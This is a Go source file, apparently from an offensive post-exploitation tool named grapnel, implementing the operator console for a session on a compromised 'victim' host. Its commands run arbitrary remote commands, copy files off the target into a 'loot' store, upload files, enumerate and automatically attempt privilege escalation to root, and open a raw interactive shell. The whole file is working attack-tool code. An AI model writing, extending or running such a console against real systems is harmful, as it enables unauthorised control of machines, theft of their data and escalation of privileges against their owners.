// Package interactive is the operator console: a readline loop dispatching
// session commands, rendered with tables where output is tabular.
package interactive

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/jedib0t/go-pretty/v6/table"
	"golang.org/x/term"

	"github.com/grapnel/grapnel/core"
	"github.com/grapnel/grapnel/database"
	"github.com/grapnel/grapnel/privesc"
	"github.com/grapnel/grapnel/victim"
)

// Console drives one session interactively.
type Console struct {
	session   *victim.Session
	store     *database.Store
	log       *core.Logger
	broker    *core.EventBroker
	completer *Completer
	input     InputReader
}

// NewConsole builds a console over an established session. store may be nil
// when persistence is disabled.
func NewConsole(session *victim.Session, store *database.Store, log *core.Logger, broker *core.EventBroker) *Console {
	completer := NewCompleter()

	var input InputReader
	rl, err := NewReadlineInput("grapnel > ", completer)
	if err != nil {
		input = NewFallbackInput("grapnel > ")
	} else {
		input = rl
	}

	return &Console{
		session:   session,
		store:     store,
		log:       log,
		broker:    broker,
		completer: completer,
		input:     input,
	}
}

// Run processes commands until exit or EOF. Always returns with the session
// closed.
func (c *Console) Run() error {
	defer c.input.Close()
	defer c.session.Close()

	if info, err := c.session.GatherInfo(); err == nil {
		c.input.SetPrompt(fmt.Sprintf("%sgrapnel%s (%s@%s) > ", BlueFG, Reset, info.Username, info.Hostname))
	}

	for {
		line, err := c.input.ReadLine()
		if err != nil {
			if err == io.EOF {
				return nil
			}
			return err
		}
		if line == "" {
			continue
		}

		parts := strings.Fields(line)
		cmd := c.completer.Canonical(parts[0])
		args := parts[1:]

		if cmd == "" {
			fmt.Printf("%sunknown command: %s%s\n", RedFG, parts[0], Reset)
			continue
		}
		if cmd == "exit" {
			return nil
		}
		if err := c.dispatch(cmd, args); err != nil {
			fmt.Printf("%serror: %v%s\n", RedFG, err, Reset)
		}
	}
}

func (c *Console) dispatch(cmd string, args []string) error {
	switch cmd {
	case "help":
		c.printHelp()
	case "info":
		return c.cmdInfo()
	case "run":
		return c.cmdRun(args)
	case "download":
		return c.cmdDownload(args)
	case "upload":
		return c.cmdUpload(args)
	case "cat":
		return c.cmdCat(args)
	case "which":
		return c.cmdWhich(args)
	case "methods":
		return c.cmdMethods()
	case "escalate":
		return c.cmdEscalate(args, true)
	case "findings":
		return c.cmdEscalate(nil, false)
	case "loot":
		return c.cmdLoot()
	case "shell":
		return c.cmdShell()
	case "clear":
		fmt.Print("\x1b[2J\x1b[H")
	}
	return nil
}

func (c *Console) printHelp() {
	t := table.NewWriter()
	t.SetStyle(table.StyleColoredBright)
	t.AppendHeader(table.Row{"Command", "Aliases", "Description"})
	for _, info := range c.completer.Commands() {
		t.AppendRow(table.Row{info.Name, strings.Join(info.Aliases, ", "), info.Description})
	}
	t.SortBy([]table.SortBy{{Name: "Command", Mode: table.Asc}})
	fmt.Println(t.Render())
}

func (c *Console) cmdInfo() error {
	info, err := c.session.GatherInfo()
	if err != nil {
		return err
	}
	t := table.NewWriter()
	t.SetStyle(table.StyleColoredBright)
	t.AppendRow(table.Row{"Session", c.session.ID})
	t.AppendRow(table.Row{"Hostname", info.Hostname})
	t.AppendRow(table.Row{"User", info.Username})
	t.AppendRow(table.Row{"OS", info.OS})
	t.AppendRow(table.Row{"Kernel", info.Kernel})
	fmt.Println(t.Render())
	return nil
}

func (c *Console) cmdRun(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("usage: run <command>")
	}
	out, err := c.session.Run(strings.Join(args, " "))
	if err != nil {
		return err
	}
	os.Stdout.Write(out)
	return nil
}

func (c *Console) cmdDownload(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("usage: download <remote> [local]")
	}
	remote := args[0]
	local := filepath.Base(remote)
	if len(args) > 1 {
		local = args[1]
	}

	r, err := c.session.Open(remote)
	if err != nil {
		return err
	}
	defer r.Close()

	f, err := os.Create(local)
	if err != nil {
		return err
	}
	defer f.Close()

	n, err := io.Copy(f, r)
	if err != nil {
		return fmt.Errorf("transfer failed after %d bytes: %w", n, err)
	}
	fmt.Printf("%s%s -> %s (%d bytes)%s\n", GreenFG, remote, local, n, Reset)

	if c.store != nil {
		c.store.SaveLoot(&database.LootEntry{
			SessionID:  c.session.ID,
			RemotePath: remote,
			LocalPath:  local,
			Size:       n,
		})
	}
	return nil
}

func (c *Console) cmdUpload(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("usage: upload <local> [remote]")
	}
	local := args[0]
	remote := "/tmp/" + filepath.Base(local)
	if len(args) > 1 {
		remote = args[1]
	}

	f, err := os.Open(local)
	if err != nil {
		return err
	}
	defer f.Close()

	fi, err := f.Stat()
	if err != nil {
		return err
	}

	w, err := c.session.Create(remote, fi.Size())
	if err != nil {
		return err
	}

	n, err := io.Copy(w, f)
	if cerr := w.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		return fmt.Errorf("transfer failed after %d bytes: %w", n, err)
	}
	fmt.Printf("%s%s -> %s (%d bytes)%s\n", GreenFG, local, remote, n, Reset)
	return nil
}

func (c *Console) cmdCat(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("usage: cat <remote>")
	}
	r, err := c.session.Open(args[0])
	if err != nil {
		return err
	}
	defer r.Close()
	_, err = io.Copy(os.Stdout, r)
	return err
}

func (c *Console) cmdWhich(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("usage: which <name>")
	}
	path := c.session.Which(args[0])
	if path == "" {
		fmt.Printf("%s%s not found%s\n", YellowFG, args[0], Reset)
		return nil
	}
	fmt.Println(path)
	return nil
}

func (c *Console) cmdMethods() error {
	t := table.NewWriter()
	t.SetStyle(table.StyleColoredBright)
	t.AppendHeader(table.Row{"Binary", "Path"})
	for _, name := range c.session.Catalog().Binaries() {
		path := c.session.Which(name)
		if path == "" {
			path = "-"
		}
		t.AppendRow(table.Row{name, path})
	}
	fmt.Println(t.Render())
	return nil
}

func (c *Console) cmdEscalate(args []string, attempt bool) error {
	escalator := privesc.NewEscalator(c.session, c.log, c.broker)
	findings, err := escalator.Enumerate()
	if err != nil {
		return err
	}
	if len(findings) == 0 {
		fmt.Printf("%sno escalation paths found%s\n", YellowFG, Reset)
		return nil
	}

	t := table.NewWriter()
	t.SetStyle(table.StyleColoredBright)
	t.AppendHeader(table.Row{"#", "Technique", "Binary", "Path", "Run As"})
	for i, f := range findings {
		runAs := f.RunAs
		if runAs == "" {
			runAs = "root"
		}
		t.AppendRow(table.Row{i + 1, f.Technique, f.Binary, f.Path, runAs})
	}
	fmt.Println(t.Render())

	if !attempt {
		return nil
	}

	password := ""
	if len(args) > 0 {
		password = args[0]
	}
	winner, err := escalator.AttemptAll(findings, password)
	if err != nil {
		return err
	}
	fmt.Printf("%sescalated via %s%s\n", GreenFG, winner, Reset)

	if c.store != nil {
		c.store.SaveEscalation(&database.EscalationAttempt{
			SessionID: c.session.ID,
			Technique: string(winner.Technique),
			Binary:    winner.Binary,
			Success:   true,
		})
	}
	return nil
}

func (c *Console) cmdLoot() error {
	if c.store == nil {
		return fmt.Errorf("persistence is disabled")
	}
	entries, err := c.store.GetLoot(c.session.ID)
	if err != nil {
		return err
	}
	t := table.NewWriter()
	t.SetStyle(table.StyleColoredBright)
	t.AppendHeader(table.Row{"Remote", "Local", "Size", "When"})
	for _, e := range entries {
		t.AppendRow(table.Row{e.RemotePath, e.LocalPath, e.Size,
			time.Unix(e.CreatedAt, 0).Format("2006-01-02 15:04:05")})
	}
	fmt.Println(t.Render())
	return nil
}

// cmdShell drops into a raw passthrough shell. Ctrl-] detaches.
func (c *Console) cmdShell() error {
	fmt.Printf("%sraw shell, Ctrl-] to detach%s\n", CyanFG, Reset)

	fd := int(os.Stdin.Fd())
	state, err := term.MakeRaw(fd)
	if err == nil {
		defer term.Restore(fd, state)
	}

	return c.session.Interact(&escapeReader{r: os.Stdin}, os.Stdout)
}

// escapeReader terminates the passthrough when the operator types Ctrl-].
type escapeReader struct {
	r io.Reader
}

func (e *escapeReader) Read(p []byte) (int, error) {
	n, err := e.r.Read(p)
	for i := 0; i < n; i++ {
		if p[i] == 0x1d {
			if i > 0 {
				return i, nil
			}
			return 0, io.EOF
		}
	}
	return n, err
}
